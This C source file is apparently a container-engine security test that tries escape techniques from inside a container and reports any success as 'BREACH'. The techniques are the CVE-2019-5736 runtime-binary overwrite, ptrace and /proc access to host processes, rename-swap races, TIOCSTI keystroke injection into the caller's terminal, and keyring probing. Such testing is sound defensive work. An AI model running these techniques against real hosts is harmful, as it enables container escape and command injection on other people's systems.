/*
 * attack: what hostile code tries from inside a container (tests/cli/security.bats). Linked statically, run with a bind
 * mount. Whatever works that must not is printed as a line that begins with BREACH; the last line says how much was
 * tried, so that a test knows that there was something to try.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long tried, guarded;

static bool time_left(const struct timespec *end) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec < end->tv_sec || (now.tv_sec == end->tv_sec && now.tv_nsec < end->tv_nsec);
}

static void breach(const char *what, int pid, const char *more) {
    printf("BREACH %s of process %d: %s\n", what, pid, more);
    fflush(stdout);
}

static void for_all_processes(void (*fn)(int pid)) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));)
        if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid())
            fn(atoi(e->d_name));
    closedir(d);
}

/* Tells the test, once, how far it is: an attack that had not begun when the test was over would prove nothing. */
static void tell(bool *told, const char *file) {
    if (*told)
        return;
    *told = true;
    close(open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}

/* Calls fn for each process until the time is up, or the file `stop` exists. */
static void for_processes(const char *seconds, void (*fn)(int pid)) {
    bool begun = false, met = false;
    struct timespec end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += atoi(seconds);
    while (time_left(&end) && access("/attack/stop", F_OK) != 0) {
        for_all_processes(fn);
        tell(&begun, "/attack/begun");
        if (guarded)
            tell(&met, "/attack/met");
        nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL); /* two cores, and others want to run */
    }
}

static bool read_comm(int pid, char *buf, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    buf[strcspn(buf, "\n")] = '\0';
    return n > 0;
}

static ssize_t link_of(int pid, const char *name, char *buf, size_t size) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t n = readlink(path, buf, size - 1);
    buf[n > 0 ? n : 0] = '\0';
    return n;
}

/* Everything that needs the kernel's leave to look into a process; true and what worked when something did. */
static bool reach(int pid, char *ret, size_t size) {
    static const char *const files[] = {"mem", "root/etc", "cwd/.", "exe", "ns/mnt", "maps"};
    static const int how[] = {O_RDWR, O_RDONLY, O_RDONLY, O_RDONLY, O_RDONLY, O_RDONLY};
    char path[300], to[300];
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, how[i] | O_NONBLOCK | O_CLOEXEC);
        tried++;
        if (fd < 0)
            continue;
        char byte;
        bool got =
            strcmp(files[i], "maps") || read(fd, &byte, 1) == 1; /* that of a zombie can be opened, and is empty */
        close(fd);
        if (!got)
            continue;
        snprintf(ret, size, "%s", files[i]);
        return true;
    }
    for (int n = 0; n < 40; n++) {
        snprintf(path, sizeof path, "fd/%d", n);
        if (link_of(pid, path, to, sizeof to) > 0) {
            snprintf(ret, size, "%s -> %.200s", path, to);
            return true;
        }
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0); /* it must stop before it can be let go, and be let go to end */
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        snprintf(ret, size, "ptrace");
        return true;
    }
    return false;
}

/* A program of the container's, by the link to it: the engine's are elsewhere. */
static bool is_containers(const char *exe) {
    return !strncmp(exe, "/bin/", 5) || !strncmp(exe, "/attack/", 8) || !strncmp(exe, "/sbin/", 6);
}

/*
 * A process that is joining the container: its exe cannot be read until it has executed its program. If it could not
 * before nor after something of it was opened, that was open which must not be.
 */
static void look_at_newcomer(int pid) {
    char exe[300], what[300];
    if (link_of(pid, "exe", exe, sizeof exe) > 0) {
        if (!is_containers(exe))
            breach("exe", pid, exe);
        return;
    }
    if (errno == ENOENT || errno == ESRCH) /* gone, or a kernel thread */
        return;
    guarded++;
    if (reach(pid, what, sizeof what) && link_of(pid, "exe", exe, sizeof exe) < 0 &&
        (errno == EACCES || errno == EPERM))
        breach("something", pid, what);
}

/*
 * The processes of the engine, seen by a container that has the host's pid namespace. One that executes a container's
 * program has its memory some time before it has its name: what was open then was that program, and its link says so.
 */
static void look_at_engine(int pid) {
    char comm[64], what[300], exe[300];
    if (!read_comm(pid, comm, sizeof comm) || strncmp(comm, "coracle", 7) || !strcmp(comm, "coracle-init"))
        return;
    guarded++;
    if (reach(pid, what, sizeof what) && read_comm(pid, comm, sizeof comm) && !strncmp(comm, "coracle", 7) &&
        link_of(pid, "exe", exe, sizeof exe) > 0 && !is_containers(exe))
        breach(comm, pid, what);
}

/* CVE-2019-5736: write to what others execute. */
static void write_to_exe(int pid) {
    char path[64], to[300];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(path, sizeof path, "fd/%d", fd); /* of what was opened: the process may have ended by now */
    link_of(getpid(), path, to, sizeof to);
    tried++;
    if (!strstr(to, "busybox") && !strstr(to, "/attack/")) {
        guarded++;
        syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, (unsigned long long[4]){0, 1 /* read-only off */},
                (size_t)32);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 200; i++) {
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0 && write(w, "\177EVIL", 5) == 5)
                breach("exe", pid, to);
            close(w);
        }
    }
    close(fd);
}

/* A directory and a link change places, as fast as they can, for so many seconds. */
static int swap(const char *a, const char *b, const char *seconds) {
    bool begun = false;
    struct timespec end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += atoi(seconds);
    while (time_left(&end) && access("/attack/stop", F_OK) != 0) {
        for (int i = 0; i < 101; i++) /* odd: while it sleeps, both are seen, too */
            tried += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
        if (tried)
            tell(&begun, "/attack/begun");
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
    return 0;
}

/* ---- the caller's terminal ---- */

static struct {
    dev_t dev, rdev; /* it: the file system of its inode, and the device */
    const char *text;
    long typed, breaches;
} caller;

/* What only virtual consoles know: set and paste a selection, the shift keys, kernel messages, which is in front. */
static bool is_console(int fd) {
    static const char calls[] = {2, 3, 6, 11, 12};
    bool found = false;
    for (size_t i = 0; i < sizeof calls; i++) {
        char arg[32] = {calls[i]};
        found |= ioctl(fd, TIOCLINUX, arg) >= 0 || errno != ENOTTY;
    }
    return found;
}

static void found_terminal(const char *what, const char *path) {
    printf("BREACH %s: %s\n", what, path);
    caller.breaches++;
}

/* A terminal is the caller's by its inode; a console by its number alone. */
static void look_at_terminal(int fd, const char *path) {
    struct stat st;
    if (fstat(fd, &st) != 0 || !S_ISCHR(st.st_mode))
        return;
    tried++;
    if (st.st_rdev == caller.rdev && (st.st_dev == caller.dev || st.st_rdev >> 8 == 4))
        found_terminal("the caller's terminal", path);
    else if (isatty(fd) && is_console(fd))
        found_terminal("a virtual console", path);
    int peer = ioctl(fd, TIOCGPTPEER, O_RDWR | O_NOCTTY);
    if (peer >= 0 && fstat(peer, &st) == 0 && st.st_rdev == caller.rdev && st.st_dev == caller.dev)
        found_terminal("the other end of the caller's terminal", path);
    close(peer);
}

/* Everything in a directory that can be opened, of devices and of what a process has open. */
static void look_into(const char *dir) {
    char path[600];
    DIR *d = opendir(dir);
    for (struct dirent *e; d && (e = readdir(d));) {
        struct stat st;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (*e->d_name == '.' || stat(path, &st) != 0 || !S_ISCHR(st.st_mode))
            continue;
        int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd < 0)
            fd = open(path, O_PATH);
        if (fd >= 0)
            look_at_terminal(fd, path);
        close(fd);
    }
    if (d)
        closedir(d);
}

static void look_for_terminals(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    look_into(path);
}

static void type_into(int fd) {
    for (const char *p = caller.text; *p; p++)
        caller.typed += ioctl(fd, TIOCSTI, p) == 0;
}

/*
 * Looks for the caller's terminal, given as the two numbers of its stat, and types into whatever terminal there is: by
 * its own descriptors, /dev/tty, what other processes have open, the devices there are and one that it makes.
 */
static int type_into_terminal(char **argv) {
    caller.text = argv[0];
    caller.dev = argv[1] ? strtoul(argv[1], NULL, 10) : 0;
    caller.rdev = argv[1] ? strtoul(argv[2], NULL, 10) : 0;
    int fd = open("/dev/tty", O_RDWR);
    if (fd < 0)
        printf("no terminal: %s\n", strerror(errno));
    for (int own = 0; own < 20; own++)
        look_at_terminal(own, "a descriptor of its own");
    for_all_processes(look_for_terminals);
    look_into("/dev");
    look_into("/dev/pts");
    mkdir("/tmp/made", 0700);
    if (mknod("/tmp/made/console", S_IFCHR | 0600, caller.rdev) == 0)
        look_into("/tmp/made");
    type_into(fd >= 0 ? fd : STDERR_FILENO);
    if (fd < 0) {
        type_into(STDIN_FILENO);
        type_into(STDOUT_FILENO);
    }
    printf("typed %ld, breaches %ld\n", caller.typed, caller.breaches);
    return caller.breaches ? 99 : 0;
}

static int find_key(const char *name) {
    static const int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
    for (size_t i = 0; i < 3; i++)
        if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", name, 0) >= 0)
            printf("BREACH keyring %d has %s\n", rings[i], name);
    printf("keyctl: %s\n",
           syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) >= 0 ? "works" : strerror(errno));
    return 0;
}

/* A new session keyring with a key in it, and a program that lives in it. */
static int with_key(char **argv) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", argv[0], "secret", (size_t)6, KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("no keyring");
        return 99;
    }
    execvp(argv[1], argv + 1);
    return 98;
}

static int crypto_socket(void) {
    int fd = socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0);
    printf("AF_ALG: %s\n", fd >= 0 ? "BREACH open" : strerror(errno));
    return 0;
}

static int same_user_files(char **argv) {
    for (; *argv; argv++) {
        int fd = open(*argv, O_RDONLY | O_NONBLOCK);
        printf("%s: %s\n", *argv, fd >= 0 ? "BREACH open" : strerror(errno));
    }
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    int rc = 0;
    if (!strcmp(what, "newcomers"))
        for_processes(argv[2], look_at_newcomer);
    else if (!strcmp(what, "engine"))
        for_processes(argv[2], look_at_engine);
    else if (!strcmp(what, "overwrite"))
        for_processes(argv[2], write_to_exe);
    else if (!strcmp(what, "swap"))
        rc = swap(argv[2], argv[3], argv[4]);
    else if (!strcmp(what, "type"))
        rc = type_into_terminal(argv + 2);
    else if (!strcmp(what, "find-key"))
        rc = find_key(argv[2]);
    else if (!strcmp(what, "with-key"))
        rc = with_key(argv + 2);
    else if (!strcmp(what, "af-alg"))
        rc = crypto_socket();
    else if (!strcmp(what, "open"))
        rc = same_user_files(argv + 2);
    else
        return 2;
    printf("tried %ld, guarded %ld\n", tried, guarded);
    return rc;
}
